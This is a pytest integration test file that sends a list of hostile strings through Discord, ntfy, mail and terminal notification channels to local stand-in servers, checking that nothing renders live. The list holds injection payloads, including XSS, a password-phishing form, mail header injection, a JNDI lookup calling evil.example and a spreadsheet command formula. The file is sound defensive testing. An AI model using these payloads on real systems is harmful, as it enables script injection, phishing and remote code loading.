"""Hostile words through every channel at real servers: nothing is alive on the far side."""

import pytest
from apprise.plugins.discord import NotifyDiscord
from apprise.plugins.ntfy import NotifyNtfy

from tests.integration.far_side import make_alert, open_far_side

# apprise 2.2 imports the module imghdr for one of its own libraries
pytestmark = pytest.mark.filterwarnings("ignore:'imghdr' is deprecated:DeprecationWarning")

HOSTILE = [
    "Acme <!channel> <!here|x> <!everyone> <@U123> <#C1> <!subteam^S1>",
    "Acme @everyone @here @channel @all <@123> <@!123> <@&4> <#5>",
    "Acme *bold* _italic_ ~gone~ `code` ```block``` **b** __u__ ~~s~~ ||spoiler||",
    "<https://evil.example|bank.example> [bank](https://evil.example) [bank][1] ![x](https://evil.example/x.png)",
    "# big", "-# small", "> quoted", ">>> quoted", "- item", "1. item", "***", "---", "===",
    "[1]: https://evil.example",
    "</spoiler:1> <t:1700000000:R> <:smile:1> <a:x:2> <id:guide>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><a href="javascript:alert(1)">x</a><style>*{display:none}</style>',
    "</blockquote></p><form action=https://evil.example><input name=password>",
    "Acme\r\nBcc: eve@evil.example\r\n\r\n<b>body</b>",
    "Acme\nX-Injected: yes\n.\nMAIL FROM:<eve@evil.example>",
    "\x1b[2J\x1b]0;title\x07 \x9b31m \x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "safe \u202etxt.exe\u202c \u2066x\u2069 \u200e\u200f\u061c",
    "\u200bzero\u2060width\ufeff \U000e0041\U000e0042 soft\u00adhyphen",
    "lone \ud800 surrogate, nul \x00, line\u2028separator",
    "[bold red]rich[/] [link=https://evil.example]x[/link] :smile:",
    "{{7*7}} ${jndi:ldap://evil.example/x} %s%n {0} {title}",
    "Ω≈ç√∫˜µ≤≥÷ 田中さん مناقشة سبل 🏳0🌈️ Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟",
    "=cmd|'/C calc'!A0", "_", "`", "&lt;!channel&gt; &#64;everyone",
    "word " * 900, "W" * 5000, "&<>" * 1500,
]  # fmt: skip


async def test_nothing_scraped_is_alive_on_the_far_side(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(NotifyNtfy, "request_rate_per_sec", 0)
    async with open_far_side(lambda url: monkeypatch.setattr(NotifyDiscord, "notify_url", url)) as far_side:
        for number, hostile in enumerate(text for text in HOSTILE for _ in range(2)):  # with and without it in the link
            assert await far_side.send(make_alert(hostile, number)) == {}, repr(hostile[:100])


async def test_the_words_arrive_all_the_same(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(NotifyNtfy, "request_rate_per_sec", 0)
    async with open_far_side(lambda url: monkeypatch.setattr(NotifyDiscord, "notify_url", url)) as far_side:
        await far_side.send(make_alert("Acme leaves", 1))
        bodies = [str(far_side.read_post(channel)[1]) for channel in far_side.posts]
        for body in (*bodies, far_side.mails[0][1].decode(), far_side.screen.getvalue()):
            assert "Acme leaves again" in body
            assert "https://news.example/acme" in body
